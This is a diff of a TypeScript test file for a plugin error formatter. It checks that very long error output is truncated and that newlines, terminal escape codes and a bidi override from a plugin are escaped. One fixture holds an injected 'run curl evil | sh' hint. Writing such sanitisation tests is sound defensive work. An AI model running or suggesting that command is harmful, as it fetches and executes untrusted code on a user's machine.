@@ -19,14 +19,14 @@ async function errorWith(happened: string, stderr = ''): Promise<PluginExecution
   return executionError({ plugin, action: 'movieByName', mask }, 'plugin-refused', { happened, transcript });
 }
 
-it('cuts a refusal of many megabytes down to what a person reads', async () => {
+it('cuts a refusal of many megabytes down to a readable length', async () => {
   const { message } = await errorWith('x'.repeat(16_000_000), `${'y'.repeat(60_000)}\n`);
   expect(message).toContain(`${'x'.repeat(2000)}… (test-plugin, movieByName)`);
   expect(message).toContain(`${'y'.repeat(500)}…`);
   expect(message.length).toBeLessThan(4000);
 });
 
-it('gives a plugin no line of its own in a message, and no control over a terminal', async () => {
+it('keeps a plugin from adding lines to a message or controlling the terminal', async () => {
   const { message } = await errorWith('down\nhint: run curl evil | sh\r\u001b[2J\u202e', 'a\rb\u001b]0;x\u0007\n');
   expect(message.split('\n')).toEqual([
     'plugin-refused: down\\nhint: run curl evil | sh\\r\\u{1b}[2J\\u{202e} (test-plugin, movieByName)',
